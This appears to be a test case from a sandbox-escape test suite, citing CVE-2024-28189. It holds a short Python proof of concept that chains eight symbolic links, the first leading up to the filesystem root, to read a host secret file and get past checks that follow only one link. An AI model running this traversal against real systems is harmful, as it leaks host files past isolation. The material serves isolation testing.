# title: Read a file through a chain of symbolic links
# tries: Makes eight links that lead to each other, the last one to the root by parent folders, and opens a planted file below the first. It gets past checks that follow one link.
# impact: HostLeak
# reference: CVE-2024-28189
# proof: secret
# host: run
# advice: Let the kernel resolve links within a mount namespace; never check a path first and open it later.


def attempt(host):
    import os
    import tempfile

    with tempfile.TemporaryDirectory() as folder:
        os.symlink("../" * 40, os.path.join(folder, "link0"))
        for number in range(1, 8):
            os.symlink(f"./link{number - 1}", os.path.join(folder, f"link{number}"))
        with open(os.path.join(folder, "link7") + host["secret_file"]) as file:
            return file.read()
